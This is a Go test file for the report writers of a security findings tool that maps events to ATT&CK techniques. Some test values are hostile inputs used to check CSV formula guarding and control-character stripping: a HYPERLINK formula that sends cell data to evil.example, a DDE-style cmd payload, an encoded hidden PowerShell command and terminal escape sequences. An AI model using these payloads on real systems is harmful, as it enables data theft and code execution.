package report

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"github.com/ttpmap/ttpmap/finding"
	"github.com/ttpmap/ttpmap/internal/golden"
)

// render writes fs in format and returns the output.
func render(t testing.TB, format string, opts Options, fs []*finding.Finding) string {
	t.Helper()
	var buf bytes.Buffer
	w, err := New(format, &buf, opts)
	if err != nil {
		t.Fatalf("New(%q): %v", format, err)
	}
	for _, f := range fs {
		if err := w.Write(f); err != nil {
			t.Fatalf("%s: Write(%s): %v", format, f.EventID, err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatalf("%s: Close: %v", format, err)
	}
	return buf.String()
}

func TestGolden(t *testing.T) {
	t.Parallel()
	tests := []struct {
		golden string
		format string
		opts   Options
	}{
		{"csv", "csv", Options{Techniques: testNamer}},
		{"ndjson", "ndjson", Options{}},
		{"json", "json", Options{}},
		{"summary", "summary", Options{Tool: "ttpmap test", Techniques: testNamer}},
		{"summary_color", "summary", Options{Tool: "ttpmap test", Techniques: testNamer, Color: true}},
	}
	for _, tt := range tests {
		t.Run(tt.golden, func(t *testing.T) {
			t.Parallel()
			fs := sampleFindings()
			got := render(t, tt.format, tt.opts, fs)
			golden.CheckText(t, filepath.Join("testdata", tt.golden+".golden"), got)
			if !reflect.DeepEqual(fs, sampleFindings()) {
				t.Errorf("%s modified its input findings", tt.format)
			}
		})
	}
}

func TestCSVGoldenReadsBack(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile(filepath.Join("testdata", "csv.golden"))
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(data))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read the golden CSV: %v", err)
	}
	if !reflect.DeepEqual(rows[0], csvHeader[:]) {
		t.Fatalf("header = %q, want %q", rows[0], csvHeader)
	}
	const want = "timestamp,host,user,source,event_id,rule_id,tactic,technique_id,technique_name,severity,description,raw_message"
	if got := strings.Join(rows[0], ","); got != want {
		t.Fatalf("header = %s, want %s", got, want)
	}
	for i, row := range rows {
		if len(row) != 12 {
			t.Errorf("row %d has %d columns, want 12: %q", i, len(row), row)
		}
	}
	if got, want := len(rows)-1, csvRowsFor(sampleFindings()); got != want {
		t.Fatalf("%d data rows, want %d (one per finding × technique)", got, want)
	}

	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	find := func(techniqueID, eventID string) []string {
		t.Helper()
		for _, row := range rows[1:] {
			if row[col["technique_id"]] == techniqueID && row[col["event_id"]] == eventID {
				return row
			}
		}
		t.Fatalf("no row for technique %q, event %q", techniqueID, eventID)
		return nil
	}
	checks := []struct {
		name              string
		technique, event  string
		column, wantValue string
	}{
		{"burst technique name", "T1110.001", "4625", "technique_name", "Password Guessing"},
		{"burst timestamp UTC", "T1110.001", "4625", "timestamp", "2026-03-14T08:02:11Z"},
		{"burst raw from original event", "T1110.001", "4625", "raw_message",
			"Computer=DC01.corp.local; EventID=4625; IpAddress=10.0.0.66; LogonType=3; TargetUserName=administrator; count=25"},
		{"1102 technique", "T1070.001", "1102", "tactic", "defense-evasion"},
		{"1102 CRLF becomes LF", "T1070.001", "1102", "raw_message",
			"The audit log was cleared.\nSubject:\n\tSecurity ID:\tS-1-5-21-1004\n\tAccount Name:\tsvc_backup"},
		{"multi-technique row 1 tactic", "T1059.001", "4104", "tactic", "execution"},
		{"multi-technique row 2 tactic", "T1027", "4104", "tactic", "defense-evasion"},
		{"multi-technique row 2 name", "T1027", "4104", "technique_name", "Obfuscated Files or Information"},
		{"quotes and commas kept", "T1027", "4104", "raw_message", "Creating Scriptblock text (1 of 1):\n" +
			`powershell.exe -nop -w hidden -enc "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", 'a,b'` + "\n" +
			`ScriptBlock ID: 0b5c, Path: "C:\Users\bob\run.ps1"`},
		{"no technique: empty name", "", "4720", "technique_name", ""},
		{"no technique: description", "", "4720", "description", "Local user account created: helpdesk2"},
		{"formula guard =", "T1059.003", "4688", "description", `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"formula guard -", "T1059.003", "4688", "user", "'-2+3"},
		{"formula guard @", "T1059.003", "4688", "source", "'@10.0.0.9"},
		{"formula guard +", "T1059.003", "4688", "raw_message", `'+cmd|' /C calc'!A0`},
		{"name from namer", "T1003.001", "10", "technique_name", "LSASS Memory"},
		{"tactic falls back to finding", "T1003.001", "10", "tactic", "TA0006"},
		{"linux: no event id, UTC", "T1071.001", "", "timestamp", "2026-03-14T08:30:00Z"},
		{"linux: nested original as JSON", "T1071.001", "", "raw_message", `args={"method":"GET"}; eventName=net_packet_http_request`},
	}
	for _, c := range checks {
		row := find(c.technique, c.event)
		if got := row[col[c.column]]; got != c.wantValue {
			t.Errorf("%s: %s = %q, want %q", c.name, c.column, got, c.wantValue)
		}
	}
}

func TestJSONFormatsParse(t *testing.T) {
	t.Parallel()
	want := len(sampleFindings())

	var arr []map[string]any
	if err := json.Unmarshal([]byte(render(t, "json", Options{}, sampleFindings())), &arr); err != nil {
		t.Fatalf("json output is not a JSON array: %v", err)
	}
	if len(arr) != want {
		t.Fatalf("json: %d elements, want %d", len(arr), want)
	}

	var lines []map[string]any
	sc := bufio.NewScanner(strings.NewReader(render(t, "ndjson", Options{}, sampleFindings())))
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("ndjson line %d: %v", len(lines)+1, err)
		}
		lines = append(lines, m)
	}
	if len(lines) != want {
		t.Fatalf("ndjson: %d lines, want %d", len(lines), want)
	}
	if !reflect.DeepEqual(arr, lines) {
		t.Error("json and ndjson disagree")
	}

	// Lists are [] and never null; times are UTC; the wire-only fields stay out.
	for _, m := range lines {
		for _, k := range []string{"technique_ids", "tactics", "related_indicators"} {
			if _, ok := m[k].([]any); !ok {
				t.Errorf("%s: %s = %#v, want a list", m["event_id"], k, m[k])
			}
		}
		md := m["metadata"].(map[string]any)
		for _, k := range []string{"technique_details", "threat_actors"} {
			if _, ok := md[k].([]any); !ok {
				t.Errorf("%s: metadata.%s = %#v, want a list", m["event_id"], k, md[k])
			}
		}
		if _, ok := md["original_event"].(map[string]any); !ok {
			t.Errorf("%s: metadata.original_event = %#v, want an object", m["event_id"], md["original_event"])
		}
		if ts := m["timestamp"].(string); !strings.HasSuffix(ts, "Z") {
			t.Errorf("%s: timestamp %q not in UTC", m["event_id"], ts)
		}
		for _, k := range []string{"File", "Channel", "WinEvent", "Message"} {
			if _, ok := m[k]; ok {
				t.Errorf("%s: field %s must not be in the JSON", m["event_id"], k)
			}
		}
	}

	// The array decodes back into the same findings (bar the JSON-less fields).
	var back []finding.Finding
	if err := json.Unmarshal([]byte(render(t, "json", Options{}, sampleFindings())), &back); err != nil {
		t.Fatal(err)
	}
	if back[0].Description != sampleFindings()[0].Description || back[2].TechniqueIDs[1] != "T1027" {
		t.Errorf("round trip lost data: %+v", back[0])
	}
}

func TestEmptyInput(t *testing.T) {
	t.Parallel()
	tests := []struct {
		format string
		opts   Options
		want   string
	}{
		{"csv", Options{}, strings.Join(csvHeader[:], ",") + "\n"},
		{"json", Options{}, "[]\n"},
		{"ndjson", Options{}, ""},
		{"summary", Options{}, "Findings summary\n\nno findings\n"},
		{"summary", Options{Tool: "ttpmap 0.1.0", Color: true}, "Findings summary (ttpmap 0.1.0)\n\nno findings\n"},
	}
	for _, tt := range tests {
		t.Run(tt.format, func(t *testing.T) {
			t.Parallel()
			got := render(t, tt.format, tt.opts, nil)
			if got != tt.want {
				t.Errorf("empty %s = %q, want %q", tt.format, got, tt.want)
			}
			if tt.format == "json" {
				var v []any
				if err := json.Unmarshal([]byte(got), &v); err != nil || v == nil {
					t.Errorf("empty json is not an empty array: %v", err)
				}
			}
		})
	}
}

// ansi matches the colour sequences the summary writes.
var ansi = regexp.MustCompile("\x1b\\[[0-9;]*m")

func TestSummaryColorKeepsAlignment(t *testing.T) {
	t.Parallel()
	plain := render(t, "summary", Options{Techniques: testNamer}, sampleFindings())
	color := render(t, "summary", Options{Techniques: testNamer, Color: true}, sampleFindings())
	if !strings.Contains(color, "\x1b[1;31mcritical\x1b[0m") {
		t.Fatalf("colour output has no coloured severity:\n%s", color)
	}
	if got := ansi.ReplaceAllString(color, ""); got != plain {
		t.Errorf("colour changes the layout; without escapes:\n%s\nplain:\n%s", got, plain)
	}
	if strings.Contains(plain, "\x1b") {
		t.Error("plain output contains escape sequences")
	}
}

func TestSummaryCounts(t *testing.T) {
	t.Parallel()
	out := render(t, "summary", Options{Techniques: testNamer}, sampleFindings())
	// Each expected line, with runs of spaces collapsed.
	wants := []string{
		"Findings: 8",
		"Hosts: 4",
		"Users: 6",
		"Techniques: 7",
		"Without technique: 1",
		"critical 2 25.0%",
		"high 2 25.0%",
		"medium 2 25.0%",
		"low 1 12.5%",
		"informational 1 12.5%",
		"T1110.001 Password Guessing 2 medium",
		"T1003.001 LSASS Memory 1 critical",
		"WS01.corp.local 3",
		"5a1b2c3d-0000-4000-8000-000000004625 Failed logon burst 2 medium",
	}
	space := regexp.MustCompile(` +`)
	var lines []string
	for _, l := range strings.Split(out, "\n") {
		lines = append(lines, strings.TrimSpace(space.ReplaceAllString(l, " ")))
	}
	for _, w := range wants {
		found := false
		for _, l := range lines {
			if l == w {
				found = true
				break
			}
		}
		if !found {
			t.Errorf("summary lacks line %q:\n%s", w, out)
		}
	}
	// Tactics in matrix order, TA0006 counted as credential-access.
	order := []string{"execution", "defense-evasion", "credential-access", "command-and-control"}
	last := -1
	for _, tac := range order {
		i := strings.Index(out, "  "+tac+" ")
		if i < 0 || i < last {
			t.Errorf("tactic %s missing or out of matrix order:\n%s", tac, out)
		}
		last = i
	}
	if !regexp.MustCompile(`credential-access +3\n`).MatchString(out) {
		t.Errorf("credential-access should count 3 findings (two bursts and TA0006):\n%s", out)
	}
}

func TestSummaryTopAndUnknown(t *testing.T) {
	t.Parallel()
	var fs []*finding.Finding
	for i := range 15 {
		for range i + 1 {
			fs = append(fs, &finding.Finding{
				Host:         "host" + string(rune('a'+i)),
				Severity:     "Weird",
				Tactics:      []string{"Command and Control", "zz-custom", "Reconnaissance"},
				TechniqueIDs: []string{"T1595"},
			})
		}
	}
	fs = append(fs, &finding.Finding{User: "evil\x1b[2J\tuser", Severity: ""})
	out := render(t, "summary", Options{}, fs)
	if strings.Contains(out, "hosta ") || !strings.Contains(out, "hosto ") {
		t.Errorf("top hosts should list the 10 busiest:\n%s", out)
	}
	if n := strings.Count(out, "\n  host"); n != topN {
		t.Errorf("listed %d hosts, want %d", n, topN)
	}
	if strings.Contains(out, "\x1b") {
		t.Errorf("control characters from the input reached the output: %q", out)
	}
	rec := strings.Index(out, "  reconnaissance ")
	c2 := strings.Index(out, "  command-and-control ")
	custom := strings.Index(out, "  zz-custom ")
	if rec < 0 || c2 < rec || custom < c2 {
		t.Errorf("tactic order wrong (want matrix order, unknown last):\n%s", out)
	}
	for _, w := range []string{"  weird ", "  unknown ", "T1595  -"} {
		if !strings.Contains(out, w) {
			t.Errorf("summary lacks %q:\n%s", w, out)
		}
	}
}

func TestNew(t *testing.T) {
	t.Parallel()
	if got, want := Formats(), []string{"csv", "html", "json", "navigator", "ndjson", "stix", "summary"}; !reflect.DeepEqual(got, want) {
		t.Errorf("Formats() = %q, want %q", got, want)
	}
	tests := []struct {
		format  string
		w       *bytes.Buffer
		wantErr string
	}{
		{"csv", &bytes.Buffer{}, ""},
		{" NDJSON ", &bytes.Buffer{}, ""},
		{"Summary", &bytes.Buffer{}, ""},
		{"xml", &bytes.Buffer{}, `unknown report format "xml" (known: csv, html, json, navigator, ndjson, stix, summary)`},
		{"", &bytes.Buffer{}, "unknown report format"},
		{"json", nil, "nil io.Writer"},
	}
	for _, tt := range tests {
		t.Run(tt.format, func(t *testing.T) {
			t.Parallel()
			var w Writer
			var err error
			if tt.w == nil {
				w, err = New(tt.format, nil, Options{})
			} else {
				w, err = New(tt.format, tt.w, Options{})
			}
			if tt.wantErr == "" {
				if err != nil || w == nil {
					t.Fatalf("New(%q) = %v, %v", tt.format, w, err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
				t.Fatalf("New(%q) error = %v, want it to contain %q", tt.format, err, tt.wantErr)
			}
			if strings.Contains(tt.wantErr, "unknown") && !errors.Is(err, ErrUnknownFormat) {
				t.Errorf("error %v does not wrap ErrUnknownFormat", err)
			}
		})
	}
}

func TestWriterLifecycle(t *testing.T) {
	t.Parallel()
	for _, format := range Formats() {
		t.Run(format, func(t *testing.T) {
			t.Parallel()
			var buf bytes.Buffer
			w, err := New(format, &buf, Options{})
			if err != nil {
				t.Fatal(err)
			}
			if err := w.Write(nil); !errors.Is(err, errNilFinding) {
				t.Errorf("Write(nil) = %v, want errNilFinding", err)
			}
			if err := w.Write(sampleFindings()[0]); err != nil {
				t.Fatal(err)
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			n := buf.Len()
			if err := w.Close(); err != nil {
				t.Errorf("second Close = %v, want nil", err)
			}
			if err := w.Write(sampleFindings()[0]); !errors.Is(err, errClosed) {
				t.Errorf("Write after Close = %v, want errClosed", err)
			}
			if buf.Len() != n {
				t.Error("output changed after Close")
			}
		})
	}
}

// failWriter fails every write.
type failWriter struct{}

var errDiskFull = errors.New("disk full")

func (failWriter) Write([]byte) (int, error) { return 0, errDiskFull }

func TestWriteErrorsSurface(t *testing.T) {
	t.Parallel()
	for _, format := range Formats() {
		t.Run(format, func(t *testing.T) {
			t.Parallel()
			w, err := New(format, failWriter{}, Options{})
			if err != nil {
				t.Fatal(err)
			}
			var werr error
			for _, f := range sampleFindings() {
				if err := w.Write(f); err != nil {
					werr = err
					break
				}
			}
			cerr := w.Close()
			if !errors.Is(werr, errDiskFull) && !errors.Is(cerr, errDiskFull) {
				t.Errorf("write error lost: Write = %v, Close = %v", werr, cerr)
			}
		})
	}
}

func TestCSVCell(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{" =1", " =1"},
		{"a=b", "a=b"},
		{"'quoted", "'quoted"},
		{"line1\r\nline2", "line1\nline2"},
		{"lone\rcr", "lone\rcr"},
		{"a\r\r\nb\r", "a\nb\r"},
		{"\r\r", "\r\r"},
	}
	for _, tt := range tests {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestNormTactic(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"credential-access", "credential-access"},
		{"Credential Access", "credential-access"},
		{"credential_access", "credential-access"},
		{"TA0006", "credential-access"},
		{"ta0011", "command-and-control"},
		{" Impact ", "impact"},
		{"Inhibit Response Function", "inhibit-response-function"},
	}
	for _, tt := range tests {
		if got := normTactic(tt.in); got != tt.want {
			t.Errorf("normTactic(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestCompactOriginal(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in   map[string]any
		want string
	}{
		{nil, ""},
		{map[string]any{"b": "2", "a": 1}, "a=1; b=2"},
		{map[string]any{"n": nil, "f": 1.5, "t": true}, "f=1.5; n=; t=true"},
		{map[string]any{"list": []any{"x", 1}, "m": map[string]any{"k": "v"}}, `list=["x",1]; m={"k":"v"}`},
	}
	for _, tt := range tests {
		if got := compactOriginal(tt.in); got != tt.want {
			t.Errorf("compactOriginal(%v) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
